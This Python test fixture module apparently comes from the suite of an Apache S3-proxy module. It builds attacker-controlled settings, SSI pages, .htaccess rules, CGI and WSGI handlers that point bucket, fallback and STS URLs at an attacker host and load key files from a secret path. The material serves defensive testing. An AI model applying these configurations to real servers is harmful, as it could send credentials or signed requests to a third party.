"""What an attacker writes: settings, and pages and .htaccess files that lead to the operator's bucket (the routes)."""

from __future__ import annotations

from collections.abc import Callable
from typing import NamedTuple

from tests.httpd.conftest import BUCKET
from tests.httpd.trust import DATA, HAS_CGI, KEY, Scenario

#: The variables that an attacker sets; {attacker} and {secret} are filled in. The mounts set only those of the last.
ATTACKS: dict[str, dict[str, str]] = {
    "nothing": {},
    "second bucket": {"S3FallbackURL": "http://{attacker}/b/", "S3FallbackOn404": "on"},
    "key file": {
        "S3FallbackURL": "http://{attacker}/b/", "S3FallbackOn404": "on", "S3FallbackAccessKeyFile": "{secret}",
        "S3FallbackSecretKey": "x",
    },
    "token file": {
        "S3FallbackURL": "http://{attacker}/b/", "S3FallbackOn404": "on", "S3FallbackAccessKey": "x",
        "S3FallbackSecretKey": "x", "S3FallbackSecurityTokenFile": "{secret}",
    },
    "first bucket": {"S3BucketURL": "http://{attacker}/b/"},
    "role": {"S3RoleARN": "arn:aws:iam::123456789012:role/x", "S3STSEndpoint": "http://{attacker}"},
    "files": {"S3AccessKeyFile": "{secret}", "S3SecretKeyFile": "{secret}", "S3CAFile": "{secret}"},
    "query": {"S3PassQuery": "response-content-type"},
    "connections": {"S3ProxySet": "nonsense"},
    "misspelt": {"S3FallbackUrl": "x", "s3bucket": "x"},
    "ours": {
        "USP_S3_SETTINGS": "S3FallbackURL=http://{attacker}/b/", "USP_S3_DEBUG": "1", "USP_S3_TRUSTED": "1",
        "USP_S3_GUARDED": "0", "USP_S3": "1",
    },
    "the bucket itself": {
        "S3BucketURL": "http://{attacker}/b/", "S3AccessKey": "x", "S3SecretKey": "x", "S3Region": "x",
        "S3UseHeaders": "off", "S3SecurityToken": "",
    },
}  # fmt: skip


#: The attacks that would send a signed request or a secret to another host.
REMOTE = ["nothing", "second bucket", "key file", "first bucket", "role", "the bucket itself"]


class AttackRequest(NamedTuple):
    """A prepared attack: the target to request, the expected status, and the key, if it is another one."""

    target: str
    status: int = 200
    key: str | None = None


Route = Callable[[Scenario, str, dict[str, str], str], AttackRequest]


def set_vars(variables: dict[str, str]) -> str:
    return "".join(f'<!--#set var="{name}" value="{value}" -->' for name, value in variables.items())


def include(url: str) -> str:
    return f'[<!--#include virtual="{url}" -->]'


def setenv(variables: dict[str, str]) -> str:
    return "".join(f'SetEnv {name} "{value}"\n' for name, value in variables.items())


def setenvif(variables: dict[str, str]) -> str:
    return "".join(f"SetEnvIf Request_URI . {name}={value or 'x'}\n" for name, value in variables.items())


def expression(variables: dict[str, str]) -> str:
    return "".join(f"SetEnvIfExpr true {name}={value or 'x'}\n" for name, value in variables.items())


def browser(variables: dict[str, str]) -> str:
    return "".join(f"BrowserMatch ^ {name}={value or 'x'}\n" for name, value in variables.items())


def flags(variables: dict[str, str]) -> str:
    """The flags of a rule. A name that begins with "!" unsets the variable."""
    parts = [f"E={name}" if name.startswith("!") else f"E={name}:{value}" for name, value in variables.items()]
    return ",".join(["NC", *parts])


def rewrite(variables: dict[str, str]) -> str:
    return f"RewriteEngine On\nRewriteRule ^ - [{flags(variables)}]\n"


DIRECTIVES = {"SetEnv": setenv, "SetEnvIf": setenvif, "Expr": expression, "Browser": browser, "Rewrite": rewrite}


def within(container: str, directives: Callable[[dict[str, str]], str]) -> Callable[[dict[str, str]], str]:
    name = container.split()[0]
    return lambda variables: f"<{container}>\n{directives(variables)}</{name}>\n"


def fill_in(variables: dict[str, str], scenario: Scenario) -> dict[str, str]:
    return {
        name: value.format(attacker=scenario.attacker.host, secret=scenario.secret) for name, value in variables.items()
    }


def page(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
    folder = scenario.folder()
    scenario.write(f"{folder}/page.shtml", set_vars(variables) + include(f"{mount}/{key}"))
    return AttackRequest(f"/{folder}/page.shtml")


def page_query(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
    folder = scenario.folder()
    scenario.write(f"{folder}/page.shtml", set_vars(variables) + include(f"{mount}/{key}?response-content-type=text/x"))
    return AttackRequest(f"/{folder}/page.shtml")


def page_of_pages(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
    folder = scenario.folder()
    scenario.write(f"{folder}/page.shtml", set_vars(variables) + include("inner.shtml"))
    scenario.write(f"{folder}/inner.shtml", include("innermost.shtml"))
    scenario.write(f"{folder}/innermost.shtml", include(f"{mount}/{key}"))
    return AttackRequest(f"/{folder}/page.shtml")


def page_after_page(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
    """A nested page sets variables in the environment of the outer one."""
    folder = scenario.folder()
    scenario.write(f"{folder}/page.shtml", include("inner.shtml") + include(f"{mount}/{key}"))
    scenario.write(f"{folder}/inner.shtml", set_vars(variables))
    return AttackRequest(f"/{folder}/page.shtml")


def page_onerror(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
    folder = scenario.folder()
    text = f'<!--#include virtual="/none" onerror="{mount}/{key}" -->'
    scenario.write(f"{folder}/page.shtml", set_vars(variables) + text)
    return AttackRequest(f"/{folder}/page.shtml")


def page_index(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
    """A fast redirect within a subrequest."""
    folder = scenario.folder()
    scenario.write(f"{folder}/index/.htaccess", f"DirectoryIndex {mount}/{key}\n{setenv(variables)}")
    scenario.write(f"{folder}/page.shtml", include(f"/{folder}/index/"))
    return AttackRequest(f"/{folder}/page.shtml")


def page_location(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
    """An internal redirect within a subrequest."""
    folder = scenario.folder()
    scenario.write(f"{folder}/x.asis", f"Status: 200 OK\nLocation: {mount}/{key}\n\n")
    scenario.write(f"{folder}/page.shtml", set_vars(variables) + include("x.asis"))
    return AttackRequest(f"/{folder}/page.shtml")


def htaccess(directives: Callable[[dict[str, str]], str]) -> Route:
    def prepare(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
        folder = scenario.folder()
        scenario.write(f"{folder}/.htaccess", directives(variables))
        scenario.write(f"{folder}/page.shtml", include(f"{mount}/{key}"))
        return AttackRequest(f"/{folder}/page.shtml")

    return prepare


def index(directives: Callable[[dict[str, str]], str], name: str = "DirectoryIndex") -> Route:
    def prepare(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
        folder = scenario.folder()
        scenario.write(f"{folder}/.htaccess", f"{directives(variables)}{name} {mount}/{key}\n")
        return AttackRequest(f"/{folder}/" if name == "DirectoryIndex" else f"/{folder}/none")

    return prepare


def error_document(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
    folder = scenario.folder()
    scenario.write(f"{folder}/.htaccess", f"{setenv(variables)}{setenvif(variables)}ErrorDocument 404 {mount}/{key}\n")
    return AttackRequest(f"/{folder}/none", 404)


def rewritten(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
    folder = scenario.folder()
    rule = f"RewriteEngine On\nRewriteRule ^x$ {mount}/{key} [{flags(variables)}]\n"
    scenario.write(f"{folder}/.htaccess", f"{setenv(variables)}{rule}")
    return AttackRequest(f"/{folder}/x")


def action(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
    folder = scenario.folder()
    scenario.write(f"{folder}/.htaccess", f"{setenv(variables)}SetHandler x-own\nAction x-own {mount}\n")
    scenario.write(f"{folder}/x", "")
    if key == KEY:
        scenario.s3.put(BUCKET, f"{folder}/x", DATA)
    return AttackRequest(f"/{folder}/x", key=f"{folder}/x")


def type_map(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
    folder = scenario.folder()
    scenario.write(f"{folder}/.htaccess", setenv(variables))
    scenario.write(f"{folder}/x.var", f"URI: ..{mount}/{key}\nContent-Type: text/plain\n")
    return AttackRequest(f"/{folder}/x.var")


def as_it_is(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
    folder = scenario.folder()
    scenario.write(f"{folder}/.htaccess", setenv(variables) + rewrite(variables))
    scenario.write(f"{folder}/x.asis", f"Status: 200 OK\nLocation: {mount}/{key}\n\n")
    return AttackRequest(f"/{folder}/x.asis")


def cgi(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
    folder = scenario.folder()
    scenario.write(f"{folder}/.htaccess", setenv(variables))
    scenario.write(f"{folder}/x.cgi", f'#!/bin/sh\nprintf "Location: {mount}/{key}\\n\\n"\n', 0o755)
    return AttackRequest(f"/{folder}/x.cgi")


def wsgi(scenario: Scenario, mount: str, variables: dict[str, str], key: str) -> AttackRequest:
    """Another application in daemon mode, whose response mod_wsgi treats as an internal redirect."""
    folder = scenario.folder()
    scenario.write(f"{folder}/.htaccess", setenv(variables))
    scenario.write(
        f"{folder}/x.wsgi",
        f"def application(environ, start):\n    start('200 OK', [('Location', '{mount}/{key}')])\n    return []\n",
    )
    return AttackRequest(f"/{folder}/x.wsgi")


ROUTES: dict[str, Route] = {
    "page": page, "page with a query": page_query, "page of pages": page_of_pages, "page after page": page_after_page,
    "page onerror": page_onerror, "page, index": page_index, "page, Location": page_location,
    **{f"htaccess {name}": htaccess(directives) for name, directives in DIRECTIVES.items()},
    **{f"index {name}": index(directives) for name, directives in DIRECTIVES.items()},
    "fallback resource": index(setenv, "FallbackResource"), "error document": error_document, "rewritten": rewritten,
    "action": action, "type map": type_map, "as it is": as_it_is, "wsgi": wsgi, **({"cgi": cgi} if HAS_CGI else {}),
}  # fmt: skip
